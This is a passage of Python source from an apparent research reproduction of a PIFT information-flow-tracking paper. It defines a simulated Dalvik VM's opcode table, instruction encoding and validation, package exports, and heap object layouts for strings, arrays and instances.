    F32X = "32x"  # op vAAAA, vBBBB
    F35C = "35c"  # op {vC..vG}, meth@BBBB
    F3RC = "3rc"  # op {vCCCC..vNNNN}, meth@BBBB
    F51L = "51l"  # op vAA, #+B (64-bit literal)


FORMAT_UNITS: Dict[Format, int] = {
    Format.F10X: 1,
    Format.F10T: 1,
    Format.F11N: 1,
    Format.F11X: 1,
    Format.F12X: 1,
    Format.F20T: 2,
    Format.F21C: 2,
    Format.F21H: 2,
    Format.F21S: 2,
    Format.F21T: 2,
    Format.F22B: 2,
    Format.F22C: 2,
    Format.F22S: 2,
    Format.F22T: 2,
    Format.F22X: 2,
    Format.F23X: 2,
    Format.F30T: 3,
    Format.F31C: 3,
    Format.F31I: 3,
    Format.F31T: 3,
    Format.F32X: 3,
    Format.F35C: 3,
    Format.F3RC: 3,
    Format.F51L: 5,
}


class Category(enum.Enum):
    """Semantic family — drives both interpretation and translation."""

    NOP = "nop"
    MOVE = "move"
    MOVE_WIDE = "move-wide"
    MOVE_RESULT = "move-result"
    MOVE_RESULT_WIDE = "move-result-wide"
    MOVE_EXCEPTION = "move-exception"
    RETURN_VOID = "return-void"
    RETURN = "return"
    RETURN_WIDE = "return-wide"
    CONST = "const"
    CONST_WIDE = "const-wide"
    CONST_STRING = "const-string"
    CONST_CLASS = "const-class"
    MONITOR = "monitor"
    CHECK_CAST = "check-cast"
    INSTANCE_OF = "instance-of"
    ARRAY_LENGTH = "array-length"
    NEW_INSTANCE = "new-instance"
    NEW_ARRAY = "new-array"
    THROW = "throw"
    GOTO = "goto"
    SWITCH = "switch"
    CMP = "cmp"
    IF_TEST = "if-test"
    IF_TESTZ = "if-testz"
    AGET = "aget"
    AGET_WIDE = "aget-wide"
    APUT = "aput"
    APUT_WIDE = "aput-wide"
    APUT_OBJECT = "aput-object"
    IGET = "iget"
    IGET_WIDE = "iget-wide"
    IPUT = "iput"
    IPUT_WIDE = "iput-wide"
    SGET = "sget"
    SGET_WIDE = "sget-wide"
    SPUT = "sput"
    SPUT_WIDE = "sput-wide"
    INVOKE = "invoke"
    UNARY_INT = "unary-int"
    UNARY_WIDE = "unary-wide"
    UNARY_FLOAT = "unary-float"
    CONVERT = "convert"
    BINOP_INT = "binop-int"
    BINOP_WIDE = "binop-wide"
    BINOP_FLOAT = "binop-float"
    BINOP_2ADDR_INT = "binop2-int"
    BINOP_2ADDR_WIDE = "binop2-wide"
    BINOP_2ADDR_FLOAT = "binop2-float"
    BINOP_LIT = "binop-lit"


@dataclass(frozen=True)
class OpcodeInfo:
    """Static description of one Dalvik opcode."""

    value: int
    name: str
    fmt: Format
    category: Category
    moves_data: bool
    #: Native load->store distance of the mterp routine (None = data path
    #: through an ABI helper: "unknown" in Table 1).
    load_store_distance: Optional[int]
    #: ABI helper backing the computation, when any.
    helper: Optional[str] = None

    @property
    def units(self) -> int:
        return FORMAT_UNITS[self.fmt]


_TABLE: List[OpcodeInfo] = []
_BY_NAME: Dict[str, OpcodeInfo] = {}


def _op(
    value: int,
    name: str,
    fmt: Format,
    category: Category,
    moves_data: bool = False,
    distance: Optional[int] = None,
    helper: Optional[str] = None,
) -> None:
    info = OpcodeInfo(value, name, fmt, category, moves_data, distance, helper)
    _TABLE.append(info)
    _BY_NAME[name] = info


# --------------------------------------------------------------------------
# The opcode table.  Distances follow the paper's Table 1 / Figure 10:
#   returns = 1; move-result/move16/aget/aput/sput/iput-quick = 2;
#   move/move-object/sget = 3; iput/iget-quick/neg-double = 4;
#   iget/int-to-long/add-int family = 5; int-to-char/sub-long/shl-lit8 = 6;
#   mul-long & friends = 9-12; float & division ops = unknown (helpers).
# --------------------------------------------------------------------------

_op(0x00, "nop", Format.F10X, Category.NOP)
_op(0x01, "move", Format.F12X, Category.MOVE, True, 3)
_op(0x02, "move/from16", Format.F22X, Category.MOVE, True, 2)
_op(0x03, "move/16", Format.F32X, Category.MOVE, True, 2)
_op(0x04, "move-wide", Format.F12X, Category.MOVE_WIDE, True, 3)
_op(0x05, "move-wide/from16", Format.F22X, Category.MOVE_WIDE, True, 2)
_op(0x06, "move-wide/16", Format.F32X, Category.MOVE_WIDE, True, 2)
_op(0x07, "move-object", Format.F12X, Category.MOVE, True, 3)
_op(0x08, "move-object/from16", Format.F22X, Category.MOVE, True, 2)
_op(0x09, "move-object/16", Format.F32X, Category.MOVE, True, 2)
_op(0x0A, "move-result", Format.F11X, Category.MOVE_RESULT, True, 2)
_op(0x0B, "move-result-wide", Format.F11X, Category.MOVE_RESULT_WIDE, True, 2)
_op(0x0C, "move-result-object", Format.F11X, Category.MOVE_RESULT, True, 2)
_op(0x0D, "move-exception", Format.F11X, Category.MOVE_EXCEPTION, True, 2)
_op(0x0E, "return-void", Format.F10X, Category.RETURN_VOID)
_op(0x0F, "return", Format.F11X, Category.RETURN, True, 1)
_op(0x10, "return-wide", Format.F11X, Category.RETURN_WIDE, True, 1)
_op(0x11, "return-object", Format.F11X, Category.RETURN, True, 1)
_op(0x12, "const/4", Format.F11N, Category.CONST)
_op(0x13, "const/16", Format.F21S, Category.CONST)
_op(0x14, "const", Format.F31I, Category.CONST)
_op(0x15, "const/high16", Format.F21H, Category.CONST)
_op(0x16, "const-wide/16", Format.F21S, Category.CONST_WIDE)
_op(0x17, "const-wide/32", Format.F31I, Category.CONST_WIDE)
_op(0x18, "const-wide", Format.F51L, Category.CONST_WIDE)
_op(0x19, "const-wide/high16", Format.F21H, Category.CONST_WIDE)
_op(0x1A, "const-string", Format.F21C, Category.CONST_STRING)
_op(0x1B, "const-string/jumbo", Format.F31C, Category.CONST_STRING)
_op(0x1C, "const-class", Format.F21C, Category.CONST_CLASS)
_op(0x1D, "monitor-enter", Format.F11X, Category.MONITOR)
_op(0x1E, "monitor-exit", Format.F11X, Category.MONITOR)
_op(0x1F, "check-cast", Format.F21C, Category.CHECK_CAST)
_op(0x20, "instance-of", Format.F22C, Category.INSTANCE_OF)
_op(0x21, "array-length", Format.F12X, Category.ARRAY_LENGTH, True, 4)
_op(0x22, "new-instance", Format.F21C, Category.NEW_INSTANCE)
_op(0x23, "new-array", Format.F22C, Category.NEW_ARRAY)
_op(0x27, "throw", Format.F11X, Category.THROW)
_op(0x28, "goto", Format.F10T, Category.GOTO)
_op(0x29, "goto/16", Format.F20T, Category.GOTO)
_op(0x2A, "goto/32", Format.F30T, Category.GOTO)
_op(0x2B, "packed-switch", Format.F31T, Category.SWITCH)
_op(0x2C, "sparse-switch", Format.F31T, Category.SWITCH)
_op(0x2D, "cmpl-float", Format.F23X, Category.CMP, True, None, "fcmp")
_op(0x2E, "cmpg-float", Format.F23X, Category.CMP, True, None, "fcmp")
_op(0x2F, "cmpl-double", Format.F23X, Category.CMP, True, None, "dcmp")
_op(0x30, "cmpg-double", Format.F23X, Category.CMP, True, None, "dcmp")
_op(0x31, "cmp-long", Format.F23X, Category.CMP, True, 6)

for _i, _cond in enumerate(["eq", "ne", "lt", "ge", "gt", "le"]):
    _op(0x32 + _i, f"if-{_cond}", Format.F22T, Category.IF_TEST)
for _i, _cond in enumerate(["eqz", "nez", "ltz", "gez", "gtz", "lez"]):
    _op(0x38 + _i, f"if-{_cond}", Format.F21T, Category.IF_TESTZ)

_op(0x44, "aget", Format.F23X, Category.AGET, True, 2)
_op(0x45, "aget-wide", Format.F23X, Category.AGET_WIDE, True, 2)
_op(0x46, "aget-object", Format.F23X, Category.AGET, True, 2)
_op(0x47, "aget-boolean", Format.F23X, Category.AGET, True, 2)
_op(0x48, "aget-byte", Format.F23X, Category.AGET, True, 2)
_op(0x49, "aget-char", Format.F23X, Category.AGET, True, 2)
_op(0x4A, "aget-short", Format.F23X, Category.AGET, True, 2)
_op(0x4B, "aput", Format.F23X, Category.APUT, True, 2)
_op(0x4C, "aput-wide", Format.F23X, Category.APUT_WIDE, True, 2)
_op(0x4D, "aput-object", Format.F23X, Category.APUT_OBJECT, True, 10)
_op(0x4E, "aput-boolean", Format.F23X, Category.APUT, True, 2)
_op(0x4F, "aput-byte", Format.F23X, Category.APUT, True, 2)
_op(0x50, "aput-char", Format.F23X, Category.APUT, True, 2)
_op(0x51, "aput-short", Format.F23X, Category.APUT, True, 2)

_op(0x52, "iget", Format.F22C, Category.IGET, True, 5)
_op(0x53, "iget-wide", Format.F22C, Category.IGET_WIDE, True, 5)
_op(0x54, "iget-object", Format.F22C, Category.IGET, True, 5)
_op(0x55, "iget-boolean", Format.F22C, Category.IGET, True, 5)
_op(0x56, "iget-byte", Format.F22C, Category.IGET, True, 5)
_op(0x57, "iget-char", Format.F22C, Category.IGET, True, 5)
_op(0x58, "iget-short", Format.F22C, Category.IGET, True, 5)
_op(0x59, "iput", Format.F22C, Category.IPUT, True, 4)
_op(0x5A, "iput-wide", Format.F22C, Category.IPUT_WIDE, True, 4)
_op(0x5B, "iput-object", Format.F22C, Category.IPUT, True, 5)
_op(0x5C, "iput-boolean", Format.F22C, Category.IPUT, True, 4)
_op(0x5D, "iput-byte", Format.F22C, Category.IPUT, True, 4)
_op(0x5E, "iput-char", Format.F22C, Category.IPUT, True, 4)
_op(0x5F, "iput-short", Format.F22C, Category.IPUT, True, 4)

_op(0x60, "sget", Format.F21C, Category.SGET, True, 3)
_op(0x61, "sget-wide", Format.F21C, Category.SGET_WIDE, True, 3)
_op(0x62, "sget-object", Format.F21C, Category.SGET, True, 3)
_op(0x63, "sget-boolean", Format.F21C, Category.SGET, True, 3)
_op(0x64, "sget-byte", Format.F21C, Category.SGET, True, 3)
_op(0x65, "sget-char", Format.F21C, Category.SGET, True, 3)
_op(0x66, "sget-short", Format.F21C, Category.SGET, True, 3)
_op(0x67, "sput", Format.F21C, Category.SPUT, True, 2)
_op(0x68, "sput-wide", Format.F21C, Category.SPUT_WIDE, True, 2)
_op(0x69, "sput-object", Format.F21C, Category.SPUT, True, 2)
_op(0x6A, "sput-boolean", Format.F21C, Category.SPUT, True, 2)
_op(0x6B, "sput-byte", Format.F21C, Category.SPUT, True, 2)
_op(0x6C, "sput-char", Format.F21C, Category.SPUT, True, 2)
_op(0x6D, "sput-short", Format.F21C, Category.SPUT, True, 2)

for _i, _kind in enumerate(["virtual", "super", "direct", "static", "interface"]):
    _op(0x6E + _i, f"invoke-{_kind}", Format.F35C, Category.INVOKE)
for _i, _kind in enumerate(["virtual", "super", "direct", "static", "interface"]):
    _op(0x74 + _i, f"invoke-{_kind}/range", Format.F3RC, Category.INVOKE)

_op(0x7B, "neg-int", Format.F12X, Category.UNARY_INT, True, 4)
_op(0x7C, "not-int", Format.F12X, Category.UNARY_INT, True, 4)
_op(0x7D, "neg-long", Format.F12X, Category.UNARY_WIDE, True, 5)
_op(0x7E, "not-long", Format.F12X, Category.UNARY_WIDE, True, 5)
_op(0x7F, "neg-float", Format.F12X, Category.UNARY_FLOAT, True, None, "fsub")
_op(0x80, "neg-double", Format.F12X, Category.UNARY_WIDE, True, 4)
_op(0x81, "int-to-long", Format.F12X, Category.CONVERT, True, 5)
_op(0x82, "int-to-float", Format.F12X, Category.CONVERT, True, None, "i2f")
_op(0x83, "int-to-double", Format.F12X, Category.CONVERT, True, None, "i2d")
_op(0x84, "long-to-int", Format.F12X, Category.CONVERT, True, 3)
_op(0x85, "long-to-float", Format.F12X, Category.CONVERT, True, None, "i2f")
_op(0x86, "long-to-double", Format.F12X, Category.CONVERT, True, None, "i2d")
_op(0x87, "float-to-int", Format.F12X, Category.CONVERT, True, None, "f2i")
_op(0x88, "float-to-long", Format.F12X, Category.CONVERT, True, None, "f2i")
_op(0x89, "float-to-double", Format.F12X, Category.CONVERT, True, None, "f2d")
_op(0x8A, "double-to-int", Format.F12X, Category.CONVERT, True, None, "d2i")
_op(0x8B, "double-to-long", Format.F12X, Category.CONVERT, True, None, "d2i")
_op(0x8C, "double-to-float", Format.F12X, Category.CONVERT, True, None, "d2f")
_op(0x8D, "int-to-byte", Format.F12X, Category.CONVERT, True, 6)
_op(0x8E, "int-to-char", Format.F12X, Category.CONVERT, True, 6)
_op(0x8F, "int-to-short", Format.F12X, Category.CONVERT, True, 6)

_INT_BINOPS = [
    ("add-int", 5, None),
    ("sub-int", 5, None),
    ("mul-int", 5, None),
    ("div-int", None, "idiv"),
    ("rem-int", None, "irem"),
    ("and-int", 5, None),
    ("or-int", 5, None),
    ("xor-int", 5, None),
    ("shl-int", 5, None),
    ("shr-int", 5, None),
    ("ushr-int", 5, None),
]
_WIDE_BINOPS = [
    ("add-long", 6, None),
    ("sub-long", 6, None),
    ("mul-long", 9, "lmul"),
    ("div-long", None, "ldiv"),
    ("rem-long", None, "lrem"),
    ("and-long", 6, None),
    ("or-long", 6, None),
    ("xor-long", 6, None),
    ("shl-long", 9, None),
    ("shr-long", 9, None),
    ("ushr-long", 9, None),
]
_FLOAT_BINOPS = [
    ("add-float", "fadd"),
    ("sub-float", "fsub"),
    ("mul-float", "fmul"),
    ("div-float", "fdiv"),
    ("rem-float", "fdiv"),
    ("add-double", "dadd"),
    ("sub-double", "dsub"),
    ("mul-double", "dmul"),
    ("div-double", "ddiv"),
    ("rem-double", "ddiv"),
]

_value = 0x90
for _name, _dist, _helper in _INT_BINOPS:
    _op(_value, _name, Format.F23X, Category.BINOP_INT, True, _dist, _helper)
    _value += 1
for _name, _dist, _helper in _WIDE_BINOPS:
    _op(_value, _name, Format.F23X, Category.BINOP_WIDE, True, _dist, _helper)
    _value += 1
for _name, _helper in _FLOAT_BINOPS:
    _op(_value, _name, Format.F23X, Category.BINOP_FLOAT, True, None, _helper)
    _value += 1

_value = 0xB0
for _name, _dist, _helper in _INT_BINOPS:
    _op(
        _value, f"{_name}/2addr", Format.F12X, Category.BINOP_2ADDR_INT, True,
        _dist, _helper,
    )
    _value += 1
for _name, _dist, _helper in _WIDE_BINOPS:
    # mul-long/2addr lands in the paper's 9-12 bucket.
    _dist2 = 12 if _name == "mul-long" else _dist
    _op(
        _value, f"{_name}/2addr", Format.F12X, Category.BINOP_2ADDR_WIDE, True,
        _dist2, _helper,
    )
    _value += 1
for _name, _helper in _FLOAT_BINOPS:
    _op(
        _value, f"{_name}/2addr", Format.F12X, Category.BINOP_2ADDR_FLOAT, True,
        None, _helper,
    )
    _value += 1

_LIT_BINOPS = [
    ("add-int", 5, None),
    ("rsub-int", 5, None),
    ("mul-int", 5, None),
    ("div-int", None, "idiv"),
    ("rem-int", None, "irem"),
    ("and-int", 5, None),
    ("or-int", 5, None),
    ("xor-int", 5, None),
]
_value = 0xD0
for _name, _dist, _helper in _LIT_BINOPS:
    suffix = "/lit16" if _name != "rsub-int" else ""
    _op(
        _value, f"{_name}{suffix}", Format.F22S, Category.BINOP_LIT, True,
        _dist, _helper,
    )
    _value += 1
for _name, _dist, _helper in _LIT_BINOPS + [
    ("shl-int", 6, None),
    ("shr-int", 6, None),
    ("ushr-int", 6, None),
]:
    _op(
        _value, f"{_name}/lit8", Format.F22B, Category.BINOP_LIT, True,
        _dist, _helper,
    )
    _value += 1

# Odexed quick accessors (the paper's Table 1 lists iget-quick at 4 and
# iput-quick at 2) plus a volatile pair for the distance-6 bucket.
_op(0xF2, "iget-quick", Format.F22C, Category.IGET, True, 4)
_op(0xF3, "iget-wide-quick", Format.F22C, Category.IGET_WIDE, True, 5)
_op(0xF4, "iget-object-quick", Format.F22C, Category.IGET, True, 4)
_op(0xF5, "iput-quick", Format.F22C, Category.IPUT, True, 2)
_op(0xF6, "iput-wide-quick", Format.F22C, Category.IPUT_WIDE, True, 2)
_op(0xF7, "iput-object-quick", Format.F22C, Category.IPUT, True, 2)
_op(0xF8, "iget-volatile", Format.F22C, Category.IGET, True, 6)
_op(0xF9, "iput-volatile", Format.F22C, Category.IPUT, True, 6)
_op(0xFA, "sget-volatile", Format.F21C, Category.SGET, True, 4)
_op(0xFB, "sput-volatile", Format.F21C, Category.SPUT, True, 4)


OPCODES: Tuple[OpcodeInfo, ...] = tuple(_TABLE)


def opcode(name: str) -> OpcodeInfo:
    """Look up an opcode by its Dalvik name."""
    try:
        return _BY_NAME[name]
    except KeyError:
        raise ValueError(f"unknown opcode {name!r}") from None


def data_moving_opcodes() -> List[OpcodeInfo]:
    return [info for info in OPCODES if info.moves_data]


def known_distance_opcodes() -> List[OpcodeInfo]:
    return [
        info
        for info in OPCODES
        if info.moves_data and info.load_store_distance is not None
    ]


def unknown_distance_opcodes() -> List[OpcodeInfo]:
    return [
        info
        for info in OPCODES
        if info.moves_data and info.load_store_distance is None
    ]


@dataclass(frozen=True)
class Instr:
    """One bytecode instruction: opcode plus operands.

    Operand meaning by position follows the Dalvik convention for the
    opcode's format (vA, vB, vC / literal / pool index).  ``symbol`` holds
    a symbolic operand — a string literal, field name, method name, class
    name, or branch label — resolved by the VM.
    """

    op: OpcodeInfo
    a: int = 0
    b: int = 0
    c: int = 0
    literal: int = 0
    symbol: Optional[str] = None
    args: Tuple[int, ...] = ()  # argument registers of invoke-*
    targets: Tuple[str, ...] = ()  # branch labels of packed/sparse-switch
    keys: Tuple[int, ...] = ()  # case keys of sparse-switch (or first key)

    @property
    def name(self) -> str:
        return self.op.name

    @property
    def units(self) -> int:
        return self.op.units

    #: Register-field bit widths per format: (a_bits, b_bits, c_bits).
    _REGISTER_BITS = {
        Format.F10X: (0, 0, 0),
        Format.F10T: (0, 0, 0),
        Format.F11N: (4, 0, 0),
        Format.F11X: (8, 0, 0),
        Format.F12X: (4, 4, 0),
        Format.F20T: (0, 0, 0),
        Format.F21C: (8, 0, 0),
        Format.F21H: (8, 0, 0),
        Format.F21S: (8, 0, 0),
        Format.F21T: (8, 0, 0),
        Format.F22B: (8, 8, 0),
        Format.F22C: (4, 4, 0),
        Format.F22S: (4, 4, 0),
        Format.F22T: (4, 4, 0),
        Format.F22X: (8, 16, 0),
        Format.F23X: (8, 8, 8),
        Format.F30T: (0, 0, 0),
        Format.F31C: (8, 0, 0),
        Format.F31I: (8, 0, 0),
        Format.F31T: (8, 0, 0),
        Format.F32X: (16, 16, 0),
        Format.F35C: (0, 0, 0),
        Format.F3RC: (16, 0, 0),
        Format.F51L: (8, 0, 0),
    }

    def validate(self, register_count: int) -> None:
        """Reject operands that do not fit their encoding fields.

        Silent masking during encoding would redirect a register access —
        a miscompile — so builders must stay within the format's widths.
        """
        a_bits, b_bits, c_bits = self._REGISTER_BITS[self.op.fmt]
        for field_name, value, bits in (
            ("A", self.a, a_bits),
            ("B", self.b, b_bits),
            ("C", self.c, c_bits),
        ):
            if bits and value >= (1 << bits):
                raise ValueError(
                    f"{self.op.name}: operand {field_name}=v{value} does not "
                    f"fit the {bits}-bit field of format {self.op.fmt.value}"
                )
            if bits and value >= register_count:
                raise ValueError(
                    f"{self.op.name}: v{value} out of range "
                    f"(method has {register_count} registers)"
                )
        if self.op.fmt is Format.F35C:
            if len(self.args) > 5:
                raise ValueError(f"{self.op.name}: at most 5 argument registers")
            for register in self.args:
                if register >= 16:
                    raise ValueError(
                        f"{self.op.name}: argument v{register} does not fit "
                        "the 4-bit fields of format 35c"
                    )
                if register >= register_count:
                    raise ValueError(
                        f"{self.op.name}: v{register} out of range "
                        f"(method has {register_count} registers)"
                    )

    def encode(self) -> List[int]:
        """Serialise to 16-bit code units (operand fields in spec positions)."""
        fmt = self.op.fmt
        first = self.op.value & 0xFF
        if fmt in (Format.F10X,):
            return [first]
        if fmt in (Format.F10T,):
            return [first | ((self.literal & 0xFF) << 8)]
        if fmt in (Format.F11N,):
            return [first | ((self.a & 0xF) << 8) | ((self.literal & 0xF) << 12)]
        if fmt in (Format.F11X,):
            return [first | ((self.a & 0xFF) << 8)]
        if fmt in (Format.F12X,):
            return [first | ((self.a & 0xF) << 8) | ((self.b & 0xF) << 12)]
        if fmt in (Format.F20T,):
            return [first, self.literal & 0xFFFF]
        if fmt in (Format.F21C, Format.F21H, Format.F21S, Format.F21T):
            return [first | ((self.a & 0xFF) << 8), self.literal & 0xFFFF]
        if fmt in (Format.F22B,):
            return [
                first | ((self.a & 0xFF) << 8),
                (self.b & 0xFF) | ((self.literal & 0xFF) << 8),
            ]
        if fmt in (Format.F22C, Format.F22S, Format.F22T):
            return [
                first | ((self.a & 0xF) << 8) | ((self.b & 0xF) << 12),
                self.literal & 0xFFFF,
            ]
        if fmt in (Format.F22X,):
            return [first | ((self.a & 0xFF) << 8), self.b & 0xFFFF]
        if fmt in (Format.F23X,):
            return [
                first | ((self.a & 0xFF) << 8),
                (self.b & 0xFF) | ((self.c & 0xFF) << 8),
            ]
        if fmt in (Format.F30T,):
            value = self.literal & 0xFFFFFFFF
            return [first, value & 0xFFFF, value >> 16]
        if fmt in (Format.F31C, Format.F31I, Format.F31T):
            value = self.literal & 0xFFFFFFFF
            return [
                first | ((self.a & 0xFF) << 8),
                value & 0xFFFF,
                value >> 16,
            ]
        if fmt in (Format.F32X,):
            return [first, self.a & 0xFFFF, self.b & 0xFFFF]
        if fmt in (Format.F35C,):
            count = len(self.args)
            unit0 = first | ((count & 0xF) << 12)
            regs = list(self.args) + [0] * (5 - count)
            unit2 = (
                (regs[0] & 0xF)
                | ((regs[1] & 0xF) << 4)
                | ((regs[2] & 0xF) << 8)
                | ((regs[3] & 0xF) << 12)
            )
            return [unit0, self.literal & 0xFFFF, unit2]
        if fmt in (Format.F3RC,):
            return [
                first | ((len(self.args) & 0xFF) << 8),
                self.literal & 0xFFFF,
                (self.args[0] if self.args else 0) & 0xFFFF,
            ]
        if fmt in (Format.F51L,):
            value = self.literal & 0xFFFFFFFFFFFFFFFF
            return [
                first | ((self.a & 0xFF) << 8),
                value & 0xFFFF,
                (value >> 16) & 0xFFFF,
                (value >> 32) & 0xFFFF,
                (value >> 48) & 0xFFFF,
            ]
        raise NotImplementedError(f"encoding for format {fmt}")

    def __str__(self) -> str:
        parts = [self.op.name]
        if self.op.fmt is Format.F35C:
            parts.append("{" + ", ".join(f"v{r}" for r in self.args) + "}")
        else:
            regs = []
            if self.op.fmt not in (Format.F10X, Format.F10T, Format.F20T, Format.F30T):
                regs.append(f"v{self.a}")
            if self.op.fmt in (
                Format.F12X,
                Format.F22C,
                Format.F22S,
                Format.F22T,
                Format.F22X,
                Format.F22B,
                Format.F23X,
                Format.F32X,
            ):
                regs.append(f"v{self.b}")
            if self.op.fmt is Format.F23X:
                regs.append(f"v{self.c}")
            parts.append(", ".join(regs))
        if self.symbol is not None:
            parts.append(self.symbol)
        return " ".join(p for p in parts if p)

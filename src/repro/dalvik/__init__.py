"""The Dalvik-style register VM — the Android runtime substrate.

Virtual registers live in simulated memory; every bytecode executes as an
mterp-translated native routine on the ISA CPU, so a PIFT observer attached
to the CPU sees the load/store structure the paper measured (§4.1).
"""

from repro.dalvik.builder import MethodBuilder
from repro.dalvik.bytecode import (
    Category,
    Format,
    Instr,
    OPCODES,
    OpcodeInfo,
    data_moving_opcodes,
    known_distance_opcodes,
    opcode,
    unknown_distance_opcodes,
)
from repro.dalvik.objects import (
    Heap,
    HeapValue,
    NullPointerError,
    VMArray,
    VMClass,
    VMInstance,
    VMString,
    bits_to_double,
    bits_to_float,
    double_to_bits,
    float_to_bits,
)
from repro.dalvik.translator import MterpTranslator, Routine
from repro.dalvik.vm import (
    Activation,
    DalvikVM,
    Method,
    TryHandler,
    UncaughtVMException,
    VMError,
)

__all__ = [
    "Activation",
    "Category",
    "DalvikVM",
    "Format",
    "Heap",
    "HeapValue",
    "Instr",
    "Method",
    "MethodBuilder",
    "MterpTranslator",
    "NullPointerError",
    "OPCODES",
    "OpcodeInfo",
    "Routine",
    "TryHandler",
    "UncaughtVMException",
    "VMArray",
    "VMClass",
    "VMError",
    "VMInstance",
    "VMString",
    "bits_to_double",
    "bits_to_float",
    "data_moving_opcodes",
    "double_to_bits",
    "float_to_bits",
    "known_distance_opcodes",
    "opcode",
    "unknown_distance_opcodes",
]

"""VM heap objects: strings, arrays, instances — all backed by simulated memory.

Layouts (loosely modelled on Dalvik's):

* every object starts with an 8-byte header (class pointer + monitor word),
* ``VMString`` — header, 4-byte length, then UTF-16 data (2 bytes per
  character; the paper's footnote 1: "in Java, each character consumes two
  bytes"),
* ``VMArray`` — header, 4-byte length, then elements of the declared width,
* ``VMInstance`` — header, then declared fields at fixed offsets.

Sensitive data lives in these layouts, so the PIFT Native layer's address
translation (paper §3.1 item 2) is implemented here: an object-typed datum
resolves to its backing data range JNI-style; a primitive field resolves to
its byte offset inside the owning instance.
"""

from __future__ import annotations

import struct
from dataclasses import dataclass
from typing import Dict, List, Optional, Sequence, Tuple

from repro.core.ranges import AddressRange
from repro.isa.memory import AddressSpace

OBJECT_HEADER_BYTES = 8
_CLASS_POINTER_OFFSET = 0
_LENGTH_OFFSET = 8
_STRING_DATA_OFFSET = 12
_ARRAY_DATA_OFFSET = 12


@dataclass(frozen=True)
class FieldSpec:
    """One declared instance field: name, byte width (4 or 8), offset."""

    name: str
    width: int
    offset: int


class VMClass:
    """A class descriptor: field layout plus a static-field area in memory."""

    def __init__(
        self,
        name: str,
        fields: Sequence[Tuple[str, int]] = (),
        statics: Sequence[Tuple[str, int]] = (),
        superclass: Optional["VMClass"] = None,
    ) -> None:
        self.name = name
        self.superclass = superclass
        self.fields: Dict[str, FieldSpec] = {}
        offset = OBJECT_HEADER_BYTES
        if superclass is not None:
            self.fields.update(superclass.fields)
            offset = superclass.instance_size
        for field_name, width in fields:
            if width not in (4, 8):
                raise ValueError(f"field width must be 4 or 8, got {width}")
            offset = (offset + width - 1) & ~(width - 1)
            self.fields[field_name] = FieldSpec(field_name, width, offset)
            offset += width
        self.instance_size = offset
        self.static_specs: Dict[str, FieldSpec] = {}
        static_offset = 0
        for field_name, width in statics:
            if width not in (4, 8):
                raise ValueError(f"field width must be 4 or 8, got {width}")
            static_offset = (static_offset + width - 1) & ~(width - 1)
            self.static_specs[field_name] = FieldSpec(field_name, width, static_offset)
            static_offset += width
        self.static_size = static_offset
        self.static_base: Optional[int] = None  # assigned by the heap
        self.address: Optional[int] = None  # class object address

    def field(self, name: str) -> FieldSpec:
        try:
            return self.fields[name]
        except KeyError:
            raise KeyError(f"{self.name} has no field {name!r}") from None

    def static_field(self, name: str) -> FieldSpec:
        try:
            return self.static_specs[name]
        except KeyError:
            raise KeyError(f"{self.name} has no static field {name!r}") from None

    def is_subclass_of(self, other: "VMClass") -> bool:
        klass: Optional[VMClass] = self
        while klass is not None:
            if klass is other:
                return True
            klass = klass.superclass
        return False

    def __repr__(self) -> str:
        return f"<VMClass {self.name}>"


class HeapValue:
    """Base of all heap-allocated values; knows its backing memory."""

    def __init__(self, heap: "Heap", address: int, vm_class: VMClass) -> None:
        self.heap = heap
        self.address = address
        self.vm_class = vm_class

    @property
    def memory(self):
        return self.heap.space.memory

    def data_range(self) -> AddressRange:
        """The range PIFT Native registers/checks for this value."""
        raise NotImplementedError

    def __repr__(self) -> str:
        return f"<{type(self).__name__} @{self.address:#x}>"


class VMString(HeapValue):
    """An immutable UTF-16 string (2 bytes per character)."""

    def __init__(self, heap: "Heap", address: int, vm_class: VMClass, length: int) -> None:
        super().__init__(heap, address, vm_class)
        self.length = length

    @property
    def chars_base(self) -> int:
        return self.address + _STRING_DATA_OFFSET

    def char_address(self, index: int) -> int:
        if not 0 <= index < self.length:
            raise IndexError(f"char index {index} out of range [0, {self.length})")
        return self.chars_base + 2 * index

    def char_range(self, index: int) -> AddressRange:
        return AddressRange.from_base_size(self.char_address(index), 2)

    def data_range(self) -> AddressRange:
        if self.length == 0:
            # An empty string still has an addressable (empty) payload slot.
            return AddressRange.from_base_size(self.chars_base, 2)
        return AddressRange.from_base_size(self.chars_base, 2 * self.length)

    def value(self) -> str:
        """Decode the current in-memory contents (for assertions/sinks)."""
        raw = self.memory.read_bytes(self.chars_base, 2 * self.length)
        return raw.decode("utf-16-le")


class VMArray(HeapValue):
    """A fixed-length array of elements of uniform byte width."""

    def __init__(
        self,
        heap: "Heap",
        address: int,
        vm_class: VMClass,
        length: int,
        element_width: int,
    ) -> None:
        super().__init__(heap, address, vm_class)
        if element_width not in (1, 2, 4, 8):
            raise ValueError(f"bad element width {element_width}")
        self.length = length
        self.element_width = element_width

    @property
    def data_base(self) -> int:
        return self.address + _ARRAY_DATA_OFFSET

    def element_address(self, index: int) -> int:
        if not 0 <= index < self.length:
            raise IndexError(f"array index {index} out of range [0, {self.length})")
        return self.data_base + index * self.element_width

    def element_range(self, index: int) -> AddressRange:
        return AddressRange.from_base_size(
            self.element_address(index), self.element_width
        )

    def data_range(self) -> AddressRange:
        size = max(self.length * self.element_width, 1)
        return AddressRange.from_base_size(self.data_base, size)

    def get(self, index: int) -> int:
        raw = self.memory.read_bytes(self.element_address(index), self.element_width)
        return int.from_bytes(raw, "little")

    def put(self, index: int, value: int) -> None:
        mask = (1 << (8 * self.element_width)) - 1
        self.memory.write_bytes(
            self.element_address(index),
            (value & mask).to_bytes(self.element_width, "little"),
        )


class VMInstance(HeapValue):
    """An object instance with its class's declared fields."""

    def field_address(self, name: str) -> int:
        return self.address + self.vm_class.field(name).offset

    def field_range(self, name: str) -> AddressRange:
        spec = self.vm_class.field(name)
        return AddressRange.from_base_size(self.address + spec.offset, spec.width)

    def get_field(self, name: str) -> int:
        spec = self.vm_class.field(name)
        raw = self.memory.read_bytes(self.address + spec.offset, spec.width)
        return int.from_bytes(raw, "little")

    def set_field(self, name: str, value: int) -> None:
        spec = self.vm_class.field(name)
        mask = (1 << (8 * spec.width)) - 1
        self.memory.write_bytes(
            self.address + spec.offset,
            (value & mask).to_bytes(spec.width, "little"),
        )

    def data_range(self) -> AddressRange:
        return AddressRange.from_base_size(
            self.address + OBJECT_HEADER_BYTES,
            max(self.vm_class.instance_size - OBJECT_HEADER_BYTES, 1),
        )


def double_to_bits(value: float) -> int:
    return struct.unpack("<Q", struct.pack("<d", value))[0]


